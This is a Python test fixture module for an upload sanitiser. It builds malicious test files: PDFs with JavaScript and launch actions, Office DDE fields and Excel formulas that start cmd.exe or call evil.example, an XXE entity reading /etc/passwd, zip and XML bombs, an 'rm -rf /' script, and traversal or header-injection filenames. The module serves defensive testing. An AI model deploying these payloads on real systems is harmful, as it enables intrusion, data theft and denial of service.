"""The corpus of hostile files: each one built in memory, with the reason for which it must be refused.

`REFUSED` files never get in; `TAMED` files get in, and what they carried is not in the bytes that we keep.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents import friendly
from tests.documents.friendly import WORD_NS, archive, pdf, picture, relation, relations, word, word_parts

CANARY = b"<script>alert('canary')</script>"


def action(kind: str, **more):
    return Dictionary(S=Name("/" + kind), **more)


def opens_with(kind: str, **more):
    def change(document):
        document.Root.OpenAction = action(kind, **more)

    return change


def link_to(kind: str, **more):
    def change(document):
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action(kind, **more)
        )
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def with_attachment(document):
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90")


def with_javascript_names(document):
    script = Dictionary(Names=Array([String("start"), action("JavaScript", JS=String("app.alert(1)"))]))
    document.Root.Names = Dictionary(JavaScript=script)


def with_page_actions(document):
    document.pages[0].obj.AA = Dictionary(O=action("JavaScript", JS=String("app.alert(1)")))


def with_script_in_stream(document):
    source = document.make_stream(b"app.alert('canary')")
    document.Root.OpenAction = document.make_indirect(action("JavaScript", JS=source))


def with_xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))


def with_film(document):
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 50, 50]))
    document.pages[0].obj.Annots = Array([note])


def with_external_stream(document):
    stream = document.make_stream(b"q Q")
    stream.F = String("\\\\evil.example\\share\\page")
    document.pages[0].obj.Contents = stream


def with_deep_nesting(document):
    nested = Array()
    for _level in range(90):
        nested = Array([nested])
    document.Root.PieceInfo2 = nested


def escaped_javascript() -> bytes:
    """The action's name written with PDF's #-escapes, which a search for text does not find."""
    plain = pdf(opens_with("JavaScript", JS=String("app.alert(1)")), compress_streams=False)
    return plain.replace(b"/S /JavaScript", b"/S /J#61vaScr#69pt").replace(b"/JS (", b"/J#53 (")


def zip_entry_lies() -> bytes:
    """A part that declares one byte and unpacks to 60 megabytes."""
    bomb = archive({**word_parts(), "word/media/a.bin": b"\0" * 60_000_000})
    honest = struct.pack("<I", 60_000_000)
    return bomb.replace(honest, struct.pack("<I", 1))


def zip_bomb() -> bytes:
    return archive({**word_parts(), "word/styles.xml": b" " * 70_000_000})


def huge_declared_size() -> bytes:
    data = bytearray(word(extra={"word/styles.xml": b"<a/>"}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def encrypted_flag() -> bytes:
    data = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def png_of(width: int, height: int) -> bytes:
    """A tiny PNG that declares any size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        body = name + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def entity_bomb() -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{levels}]>'
        f'<w:document xmlns:w="{WORD_NS}"><w:body><w:p><w:t>&l8;</w:t></w:p></w:body></w:document>'
    )


def external_entity() -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{WORD_NS}"><w:body><w:p><w:t>&file;</w:t></w:p></w:body></w:document>'
    )


def dde_field(*pieces: str) -> str:
    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{texts}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def macro_workbook() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(friendly.workbook()))
    parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    types = source.read("[Content_Types].xml").decode()
    parts["[Content_Types].xml"] = types.replace("sheet.main+xml", "sheet.macroEnabled.main+xml").replace(
        "openxmlformats-officedocument.spreadsheetml", "ms-excel"
    )
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    return archive(parts)


def workbook_with(name: str, content: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(friendly.workbook()))
    return archive({**{part: source.read(part) for part in source.namelist()}, name: content})


EXTERNAL_IMAGE = relations(relation("image", "http://evil.example/pixel.png", "External"))
EXTERNAL_TEMPLATE = relations(relation("attachedTemplate", "http://evil.example/a.dotm", "External"))
EXTERNAL_BOOK = relations(relation("externalLinkPath", "file:///C:/other.xlsx", "External"))
SCRIPT_LINK = relations(relation("hyperlink", "javascript:alert(1)", "External"))
SHARE_LINK = relations(relation("hyperlink", "\\\\evil.example\\share", "External"))
HTML_CHUNK = relations(relation("aFChunk", "page.html"))
WORD_MACRO_TYPE = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)

# name as sent, bytes, reason of refusal
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "nothing at all": ("empty.pdf", b"", "empty"),
    "too many bytes": ("long.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024), "too_big"),
    "web page called a photo": ("me.jpg", b"<html>" + CANARY + b"</html>", "web_page"),
    "web page after a byte order mark": ("me.jpg", b"\xef\xbb\xbf <!doctype html>" + CANARY, "web_page"),
    "drawing with a script": ("logo.png", b"<svg xmlns='x'>" + CANARY + b"</svg>", "svg"),
    "drawing behind an xml line": ("logo.svg", b"<?xml version='1.0'?><svg onload='x'/>", "svg"),
    "windows program called a picture": ("photo.png", b"MZ\x90\x00" + b"\0" * 300, "program"),
    "linux program called a document": ("plan.pdf", b"\x7fELF" + b"\0" * 300, "program"),
    "shell script": ("plan.docx", b"#!/bin/sh\nrm -rf /\n", "program"),
    "gif": ("photo.gif", b"GIF89a" + b"\0" * 50, "gif"),
    "gif that is a script too": ("photo.jpg", b"GIF89a/*" + b"\0" * 30 + b"*/=alert(1)", "gif"),
    "tiff": ("scan.tif", picture("TIFF"), "tiff"),
    "phone photo in heic": ("IMG_1.heic", b"\0\0\0\x18ftypheic" + b"\0" * 40, "heic"),
    "plain zip": ("files.docx", archive({"a.txt": "hello"}), "archive"),
    "rar": ("files.pdf", b"Rar!\x1a\x07\x00", "archive"),
    "text": ("notes.txt", b"hello", "unknown_type"),
    "jpeg called png": ("photo.png", picture("JPEG"), "wrong_extension"),
    "pdf called docx": ("plan.docx", pdf(), "wrong_extension"),
    "no extension": ("photo", picture("JPEG"), "wrong_extension"),
    "name that hides its ending": ("annexe\u202egpj.exe", picture("JPEG"), "wrong_extension"),
    "more pixels than allowed": ("wall.png", png_of(8000, 6000), "too_many_pixels"),
    "pixel bomb": ("wall.png", png_of(60_000, 60_000), "too_many_pixels"),
    "picture cut off": ("cut.jpg", picture("JPEG", size=(400, 400))[:900], "damaged"),
    "picture of noise": ("noise.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\x07" * 60, "damaged"),
    "word with macros": (
        "plan.docm",
        word(extra={"word/vbaProject.bin": b"\0"}, more_types=WORD_MACRO_TYPE),
        "macros",
    ),
    "word with macros renamed": (
        "plan.docx",
        word(extra={"word/vbaProject.bin": b"\0"}, more_types=WORD_MACRO_TYPE),
        "macros",
    ),
    "word with undeclared macros": ("plan.docx", word(extra={"word/vbaProject.bin": b"\0"}), "macros"),
    "excel with macros renamed": ("budget.xlsx", macro_workbook(), "macros"),
    "excel 4 macro sheet": ("b.xlsx", workbook_with("xl/macrosheets/sheet1.xml", "<x/>"), "macros"),
    "word with an object inside": (
        "plan.docx",
        word(extra={"word/embeddings/oleObject1.bin": b"x"}),
        "embedded",
    ),
    "word with a web page inside": (
        "plan.docx",
        word(extra={"word/_rels/document.xml.rels": HTML_CHUNK, "word/page.html": CANARY}),
        "embedded",
    ),
    "word that fetches its template": (
        "plan.docx",
        word(extra={"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "external",
    ),
    "word with a tracking picture": (
        "plan.docx",
        word(extra={"word/_rels/document.xml.rels": EXTERNAL_IMAGE}),
        "external",
    ),
    "word with a script as link": (
        "plan.docx",
        word(extra={"word/_rels/document.xml.rels": SCRIPT_LINK}),
        "external",
    ),
    "word with a link to a share": (
        "plan.docx",
        word(extra={"word/_rels/document.xml.rels": SHARE_LINK}),
        "external",
    ),
    "word that starts a program": ("plan.docx", word(dde_field('DDEAUTO c:\\\\cmd.exe "/k calc"')), "fields"),
    "word that starts one in pieces": ("plan.docx", word(dde_field(" DD", "EAU", "TO cmd ")), "fields"),
    "word field with a computed name": (
        "plan.docx",
        word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + dde_field(" QUOTE 68 68 69 ") + "</w:p>"),
        "fields",
    ),
    "word simple field": (
        "plan.docx",
        word('<w:p><w:fldSimple w:instr=" DDE excel book "/></w:p>'),
        "fields",
    ),
    "excel that starts a program": ("budget.xlsx", friendly.workbook("=cmd|'/c calc'!A0"), "fields"),
    "excel that fetches": ("budget.xlsx", friendly.workbook('=WEBSERVICE("http://evil.example")'), "fields"),
    "excel with an external book": (
        "budget.xlsx",
        workbook_with("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        "external",
    ),
    "excel with an external book by relation": (
        "budget.xlsx",
        workbook_with("xl/worksheets/_rels/sheet1.xml.rels", EXTERNAL_BOOK),
        "external",
    ),
    "excel with a data connection": (
        "b.xlsx",
        workbook_with("xl/connections.xml", "<connections/>"),
        "external",
    ),
    "zip bomb": ("plan.docx", zip_bomb(), "bomb"),
    "zip bomb that lies about its size": ("plan.docx", zip_entry_lies(), "damaged"),
    "huge declared size": ("plan.docx", huge_declared_size(), "bomb"),
    "too many parts": ("plan.docx", word(extra={f"word/p{n}.xml": "<a/>" for n in range(2100)}), "bomb"),
    "xml bomb": ("plan.docx", word(extra={"word/document.xml": entity_bomb()}), "entities"),
    "xml that reads files": ("plan.docx", word(extra={"word/document.xml": external_entity()}), "entities"),
    "part that climbs out": ("plan.docx", word(extra={"../../evil.xml": "<a/>"}), "damaged"),
    "word cut off": ("plan.docx", word()[:-200], "damaged"),
    "word with zip password": ("plan.docx", encrypted_flag(), "password"),
    "old or locked office": ("plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    "pdf opening with a script": (
        "a.pdf",
        pdf(opens_with("JavaScript", JS=String("app.alert(1)"))),
        "script",
    ),
    "pdf script kept in a stream": ("a.pdf", pdf(with_script_in_stream), "script"),
    "pdf script under an escaped name": ("a.pdf", escaped_javascript(), "script"),
    "pdf script in the name tree": ("a.pdf", pdf(with_javascript_names), "script"),
    "pdf script in object streams": (
        "a.pdf",
        pdf(with_javascript_names, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "script",
    ),
    "pdf page action": ("a.pdf", pdf(with_page_actions), "script"),
    "pdf that starts a program": ("a.pdf", pdf(link_to("Launch", F=String("cmd.exe"))), "script"),
    "pdf opening a web page by itself": (
        "a.pdf",
        pdf(opens_with("URI", URI=String("http://evil.example"))),
        "script",
    ),
    "pdf link that is a script": ("a.pdf", pdf(link_to("URI", URI=String("javascript:alert(1)"))), "script"),
    "pdf that opens a share": ("a.pdf", pdf(link_to("GoToR", F=String("\\\\evil.example\\x"))), "script"),
    "pdf form that sends itself": (
        "a.pdf",
        pdf(link_to("SubmitForm", F=String("http://e.example"))),
        "script",
    ),
    "pdf with a file inside": ("a.pdf", pdf(with_attachment), "embedded"),
    "pdf with an xfa form": ("a.pdf", pdf(with_xfa), "form_xfa"),
    "pdf with film": ("a.pdf", pdf(with_film), "media"),
    "pdf that fetches its page": ("a.pdf", pdf(with_external_stream), "external"),
    "pdf nested too deep": ("a.pdf", pdf(with_deep_nesting), "bomb"),
    "pdf with a password": (
        "a.pdf",
        pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")),
        "password",
    ),
    "pdf with an owner's password": (
        "a.pdf",
        pdf(encryption=pikepdf.Encryption(user="", owner="secret")),
        "password",
    ),
    "pdf cut off": ("a.pdf", pdf(pages=30)[:-300], "damaged"),
    "pdf in name only": ("a.pdf", b"%PDF-1.7\n" + CANARY + b"\n%%EOF\n", "damaged"),
}

# name as sent, bytes, what must be gone
TAMED: dict[str, tuple[str, bytes, bytes]] = {
    "script behind a photo": ("me.jpg", picture("JPEG") + CANARY, b"canary"),
    "script in a photo's comment": ("me.jpg", picture("JPEG", comment=CANARY), b"canary"),
    "script behind a png": ("me.png", picture("PNG") + b"<?php canary ?>", b"canary"),
    "archive behind a photo": ("me.jpg", picture("JPEG") + archive({"canary.txt": "x"}), b"canary"),
    "script in a webp": ("me.webp", picture("WEBP", exif=b"Exif\0\0" + CANARY), b"canary"),
    "photo that says where it was taken": ("me.jpg", friendly.photo_with_position(), b"Canary phone"),
    "web page behind a pdf": ("a.pdf", pdf() + CANARY + b"\n%%EOF\n", b"canary"),
    "author of a pdf": ("a.pdf", pdf(), b"Canary"),
    "archive in front of a word document": ("a.docx", word() + b"", b"Canary"),
    "bytes between the parts of a word document": (
        "a.docx",
        word(extra={"docProps/custom.xml": "<Properties>Canary</Properties>"}),
        b"Canary",
    ),
}

# name as sent, what is kept of it
NAMES = {
    "../../etc/passwd.jpg": "passwd.jpg",
    "..\\..\\windows\\system32\\me.jpg": "me.jpg",
    "/var/www/html/me.JPEG": "me.jpg",
    "me.php\x00.jpg": "me.php.jpg",
    "photo\u202egnp.jpg": "photognp.jpg",
    "a\u200bb\ufeffc.jpg": "abc.jpg",
    "line\r\nSet-Cookie: x=1.jpg": "line Set-Cookie x=1.jpg",
    '"><script>alert(1)</script>.jpg': "script.jpg",
    ".htaccess.jpg": "htaccess.jpg",
    "  .. .jpg": "document.jpg",
    "CON.jpg": "document-CON.jpg",
    "-rf.jpg": "rf.jpg",
    "صورة المحل.jpg": "صورة المحل.jpg",
    "reçu n° 12.jpg": "reçu n° 12.jpg",
    "x" * 400 + ".jpg": "x" * 100 + ".jpg",
}
